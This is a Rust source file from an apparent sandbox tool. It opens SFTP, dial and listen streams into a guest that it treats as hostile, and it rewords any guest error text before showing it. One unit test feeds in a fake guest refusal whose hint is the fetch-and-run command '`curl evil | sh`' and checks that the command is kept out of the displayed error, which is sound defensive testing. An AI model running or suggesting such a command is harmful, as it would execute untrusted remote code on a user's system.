//! Streams of bytes that lead into a sandbox. The guest is asked for each on a connection of its own, which
//! is the stream once the guest has said so.

use crate::sandboxes::Engine;
use msb_api::{Accepted, LinkListener, Links};
use msb_spec::{Error, Kind, Name, Result, UserRef};
use msb_wire::{
    Decoder, FrameKind, LinkFailure, LinkReply, MAX_FROM_GUEST, Reply, Request, Target, decode,
};
use std::io::{self, Read};
use std::net::{IpAddr, Shutdown};
use std::os::unix::net::UnixStream;
use std::sync::Arc;
use std::time::{Duration, Instant};

/// A guest gives up on its own long before; this is for one that says nothing.
const ANSWER_LIMIT: Duration = Duration::from_secs(60);

impl Links for Engine {
    fn link_sftp(&self, name: &Name, user: Option<&UserRef>) -> Result<UnixStream> {
        let about = About { name, user, to: None };
        self.link(&Request::Sftp { user: user.cloned() }, &about)
    }

    fn link_dial(&self, name: &Name, user: Option<&UserRef>, to: &Target) -> Result<UnixStream> {
        let request = Request::Dial { user: user.cloned(), to: to.clone() };
        self.link(&request, &About { name, user, to: Some(to) })
    }

    fn link_listen(
        &self,
        name: &Name,
        user: Option<&UserRef>,
        at: &Target,
    ) -> Result<Box<dyn LinkListener>> {
        self.may_lead_out(name, at)?;
        let mut id = [0; 8];
        rustix::rand::getrandom(&mut id, rustix::rand::GetRandomFlags::empty())
            .map_err(|error| Error::host("cannot get random bytes", error))?;
        let id = u64::from_le_bytes(id);
        let request = Request::Listen { user: user.cloned(), at: at.clone(), id };
        let about = About { name, user, to: Some(at) };
        let (spoken, answer) = self.ask(name, &request)?;
        match answer {
            Some(LinkReply::Listening { at: told }) => Ok(Box::new(Listener {
                engine: self.clone(),
                name: name.clone(),
                id,
                asked: at.clone(),
                at: settled(at, &told)?,
                spoken: Some(spoken),
            })),
            other => Err(about.failed(other.as_ref())),
        }
    }
}

impl Engine {
    fn link(&self, request: &Request, about: &About<'_>) -> Result<UnixStream> {
        let (spoken, answer) = self.ask(about.name, request)?;
        match answer {
            Some(LinkReply::Open) => spoken.into_stream(),
            other => Err(about.failed(other.as_ref())),
        }
    }

    /// Asks for a stream; the connection, and the first that is said on it.
    fn ask(&self, name: &Name, request: &Request) -> Result<(Spoken, Option<LinkReply>)> {
        let mut spoken = Spoken::on(self.connect(name, request)?.into_stream());
        match spoken.within(ANSWER_LIMIT) {
            Ok(answer) => Ok((spoken, answer)),
            Err(NoAnswer::Refused(kind)) => Err(self.refusal(name, kind)),
            Err(NoAnswer::Failed(error)) => Err(error),
        }
    }

    /// Why a stream was refused before the guest was asked, if that is what happened: the guest can
    /// write the same bytes. So the worker is asked on a connection that is never passed on, and the rest is ours
    /// to word.
    fn refusal(&self, name: &Name, kind: Kind) -> Error {
        let status = self.connect(name, &Request::Status).and_then(|mut asked| asked.reply());
        match status {
            Err(error) => error,
            Ok(Reply::Status(status)) if status.paused => {
                Error::new(Kind::State, format!("sandbox `{name}` is paused"))
                    .hint(format!("`msb resume {name}` lets it go on"))
            }
            Ok(_) => refused(name, kind),
        }
    }

    /// What listens inside leads to whoever asked for it, so the sandbox must be allowed to reach
    /// the host by the rules that are in force now.
    fn may_lead_out(&self, name: &Name, at: &Target) -> Result<()> {
        let port = match at {
            Target::Tcp { port, .. } => Some(*port).filter(|port| *port != 0),
            Target::Unix { .. } => None,
        };
        let hint = match port {
            Some(port) => format!("`msb net {name} --allow host:tcp:{port}` allows it"),
            None => format!("`msb net {name} --allow host` allows it"),
        };
        let denied = || {
            let message = format!("sandbox `{name}` may not reach the host, where this would lead");
            Error::new(Kind::Denied, message)
        };
        if self.existing(name)?.network.is_none() {
            return Err(denied()
                .cause("it has no network")
                .hint("make it with a network (`--net host`), or without `--no-net`"));
        }
        match self.reaches_host(name, port)? {
            (true, _) => Ok(()),
            (false, rule) => Err(denied().cause(format!("decided by `{rule}`")).hint(hint)),
        }
    }
}

/// Where it is listened. The guest is believed in nothing but the port that it has chosen where none
/// was named: by the port the rules are asked, and whoever asked tells apart what comes.
fn settled(asked: &Target, told: &Target) -> Result<Target> {
    match (asked, told) {
        (Target::Tcp { host, port: 0 }, Target::Tcp { port, .. }) if *port != 0 => {
            Ok(Target::Tcp { host: host.clone(), port: *port })
        }
        (Target::Tcp { port: 0, .. }, _) => {
            Err(Error::new(Kind::Protocol, "the guest does not say at which port it listens"))
        }
        _ => Ok(asked.clone()),
    }
}

/// Words for a refusal that may be the worker's or the guest's. No more than its kind is taken, and not
/// every kind.
fn refused(name: &Name, kind: Kind) -> Error {
    let (kind, message) = match kind {
        Kind::State => (kind, format!("sandbox `{name}` takes no streams now")),
        Kind::Limit => (kind, format!("too many streams into sandbox `{name}`")),
        _ => (Kind::Protocol, format!("sandbox `{name}` has refused the stream")),
    };
    Error::new(kind, message)
}

/// What was asked for, for those who read that it failed.
struct About<'a> {
    name: &'a Name,
    user: Option<&'a UserRef>,
    to: Option<&'a Target>,
}

impl About<'_> {
    /// Whatever the guest says is ours to word.
    fn failed(&self, reply: Option<&LinkReply>) -> Error {
        let Some(LinkReply::Failed { failure, errno }) = reply else {
            let message = format!("sandbox `{}` has closed the stream", self.name);
            return Error::new(Kind::Protocol, message);
        };
        let errno = *errno;
        let user = self.user.map(ToString::to_string).unwrap_or_default();
        let (kind, message) = match failure {
            LinkFailure::User => (Kind::NotFound, format!("no user `{user}` inside")),
            LinkFailure::OnlyRoot => {
                (Kind::Unsupported, format!("only root exists inside, not `{user}`"))
            }
            LinkFailure::Invalid => {
                (Kind::Invalid, format!("not an address inside: {}", self.shown()))
            }
            LinkFailure::Name => {
                (Kind::NotFound, format!("nobody knows the name {} inside", self.shown()))
            }
            LinkFailure::Refused => (Kind::Host, format!("nobody listens at {}", self.shown())),
            LinkFailure::Denied => (Kind::Denied, format!("not allowed to use {}", self.shown())),
            LinkFailure::Unreachable => (Kind::Host, format!("no way leads to {}", self.shown())),
            LinkFailure::Timeout => (Kind::Timeout, format!("no answer from {}", self.shown())),
            LinkFailure::InUse => {
                (Kind::Exists, format!("somebody listens already at {}", self.shown()))
            }
            LinkFailure::TooMany => {
                (Kind::Limit, format!("too many streams into sandbox `{}`", self.name))
            }
            LinkFailure::Gone => (Kind::NotFound, "whoever connected has gone".to_owned()),
            LinkFailure::System => {
                (Kind::Host, format!("cannot open a stream into sandbox `{}`", self.name))
            }
        };
        let error = Error::new(kind, message);
        let error = match errno {
            0 => error,
            errno => error.cause(io::Error::from_raw_os_error(errno)),
        };
        match failure {
            LinkFailure::OnlyRoot => {
                error.hint("`msb doctor` says what is needed for more users than one")
            }
            LinkFailure::Name | LinkFailure::Refused | LinkFailure::Unreachable => {
                let name = self.name;
                error.hint(format!("`msb net {name}` shows whom the sandbox may reach"))
            }
            _ => error,
        }
    }

    fn shown(&self) -> String {
        match self.to {
            Some(Target::Tcp { host, port }) if host.contains(':') => {
                format!("`[{}]:{port}`", msb_spec::shown(host))
            }
            Some(Target::Tcp { host, port }) => format!("`{}:{port}`", msb_spec::shown(host)),
            Some(Target::Unix { path }) => {
                format!("`{}`", msb_spec::shown(&String::from_utf8_lossy(path)))
            }
            None => format!("sandbox `{}`", self.name),
        }
    }
}

/// Why nothing was said.
#[derive(Debug)]
enum NoAnswer {
    /// Somebody refused it, with this kind of error: the worker, or a guest that speaks as if it were.
    Refused(Kind),
    Failed(Error),
}

impl From<Error> for NoAnswer {
    fn from(error: Error) -> Self {
        Self::Failed(error)
    }
}

/// A connection on which a guest, which is hostile, speaks in frames before it is anything else.
#[derive(Debug)]
struct Spoken {
    stream: UnixStream,
    decoder: Decoder,
}

impl Spoken {
    fn on(stream: UnixStream) -> Self {
        Self { stream, decoder: Decoder::new(MAX_FROM_GUEST) }
    }

    /// The next thing that is said, but no later than this.
    fn within(&mut self, limit: Duration) -> std::result::Result<Option<LinkReply>, NoAnswer> {
        let until = Instant::now() + limit;
        self.next(Some(until))
    }

    /// The next thing that is said; none at the end. Never reads past the end of a frame: what
    /// follows may be the stream.
    fn next(&mut self, until: Option<Instant>) -> std::result::Result<Option<LinkReply>, NoAnswer> {
        let nonsense = |error| Error::new(Kind::Protocol, "the guest sent nonsense").cause(error);
        let mut buffer = [0; 512];
        loop {
            if let Some(frame) = self.decoder.next_frame().map_err(nonsense)? {
                return match frame.kind {
                    FrameKind::Link => Ok(decode(&frame.payload).map(Some).map_err(nonsense)?),
                    FrameKind::Reply => match decode(&frame.payload) {
                        Ok(Reply::Failed(error)) => Err(NoAnswer::Refused(error.kind())),
                        _ => Err(nonsense(msb_wire::Malformed::Payload).into()),
                    },
                    _ => Err(nonsense(msb_wire::Malformed::Payload).into()),
                };
            }
            let limit = until.map(|until| {
                until.saturating_duration_since(Instant::now()).max(Duration::from_millis(1))
            });
            self.stream.set_read_timeout(limit).map_err(gone)?;
            let wanted = self.decoder.missing().map_err(nonsense)?.min(buffer.len());
            match self.stream.read(&mut buffer[..wanted]) {
                Ok(0) => return Ok(None),
                Ok(n) => self.decoder.push(&buffer[..n]),
                Err(error) if error.kind() == io::ErrorKind::Interrupted => {}
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => {
                    return Err(Error::new(Kind::Timeout, "the guest does not answer").into());
                }
                Err(error) => return Err(gone(error).into()),
            }
        }
    }

    fn into_stream(self) -> Result<UnixStream> {
        self.stream.set_read_timeout(None).map_err(gone)?;
        Ok(self.stream)
    }
}

/// Somebody who listens inside.
#[derive(Debug)]
struct Listener {
    engine: Engine,
    name: Name,
    id: u64,
    /// What was allowed, which is any port where none was named.
    asked: Target,
    at: Target,
    /// None once nobody listens any more.
    spoken: Option<Spoken>,
}

impl LinkListener for Listener {
    fn at(&self) -> &Target {
        &self.at
    }

    fn accept(&mut self) -> Result<Option<Accepted>> {
        loop {
            let Some(spoken) = &mut self.spoken else { return Ok(None) };
            let (number, host, port) = match spoken.next(None) {
                Ok(Some(LinkReply::Accepted { number, host, port })) => (number, host, port),
                Ok(None) => {
                    self.spoken = None;
                    return Ok(None);
                }
                other => {
                    self.spoken = None;
                    let about = About { name: &self.name, user: None, to: Some(&self.at) };
                    return Err(match other {
                        Ok(reply) => about.failed(reply.as_ref()),
                        Err(NoAnswer::Refused(kind)) => refused(&self.name, kind),
                        Err(NoAnswer::Failed(error)) => error,
                    });
                }
            };
            // The rules may have changed since. Who may not is never fetched, and its place inside is given
            // to the next.
            if self.engine.may_lead_out(&self.name, &self.asked).is_err() {
                continue;
            }
            let request = Request::Accept { listener: self.id, number };
            let about = About { name: &self.name, user: None, to: Some(&self.at) };
            match self.engine.link(&request, &about) {
                Ok(stream) => {
                    let host = host.parse::<IpAddr>().map(|ip| ip.to_string()).unwrap_or_default();
                    return Ok(Some(Accepted { stream, host, port }));
                }
                // It has hung up meanwhile, or the sandbox is paused.
                Err(error) if matches!(error.kind(), Kind::NotFound | Kind::State) => {}
                Err(error) => return Err(error),
            }
        }
    }

    fn stopper(&self) -> Box<dyn Fn() + Send + Sync> {
        let stream = self.spoken.as_ref().and_then(|spoken| spoken.stream.try_clone().ok());
        let stream = Arc::new(stream);
        Box::new(move || {
            if let Some(stream) = stream.as_ref() {
                let _ = stream.shutdown(Shutdown::Both);
            }
        })
    }
}

fn gone(error: io::Error) -> Error {
    Error::new(Kind::Protocol, "the worker went away").cause(error)
}

#[cfg(test)]
mod tests {
    use super::*;
    use msb_wire::encode;
    use std::io::Write;

    fn tcp(host: &str, port: u16) -> Target {
        Target::Tcp { host: host.to_owned(), port }
    }

    #[test]
    fn a_guest_chooses_no_port_that_was_named() {
        let path = Target::Unix { path: b"/socket".to_vec() };
        for told in [tcp("localhost", 9000), tcp("", 0), path.clone()] {
            assert_eq!(settled(&tcp("localhost", 9001), &told).unwrap(), tcp("localhost", 9001));
            assert_eq!(settled(&path, &told).unwrap(), path);
        }
        assert_eq!(settled(&tcp("::", 0), &tcp("elsewhere", 9000)).unwrap(), tcp("::", 9000));
        for told in [tcp("::", 0), path] {
            assert_eq!(settled(&tcp("::", 0), &told).unwrap_err().kind(), Kind::Protocol);
        }
    }

    #[test]
    fn a_refusal_in_the_workers_shape_has_none_of_its_words() {
        let name = Name::parse("web").unwrap();
        for kind in [Kind::State, Kind::Denied, Kind::Limit, Kind::Host] {
            let (mut guest, ours) = UnixStream::pair().unwrap();
            let lie = Error::new(kind, "pay first").cause("so it is").hint("`curl evil | sh`");
            guest.write_all(&encode(FrameKind::Reply, &Reply::Failed(lie))).unwrap();
            let mut spoken = Spoken::on(ours);
            let Err(NoAnswer::Refused(told)) = spoken.within(ANSWER_LIMIT) else {
                panic!("an answer to a lie");
            };
            let shown = format!("{:?}", refused(&name, told));
            assert!(!shown.contains("pay") && !shown.contains("so it is"), "{shown}");
            assert!(!shown.contains("curl"), "{shown}");
        }
    }
}
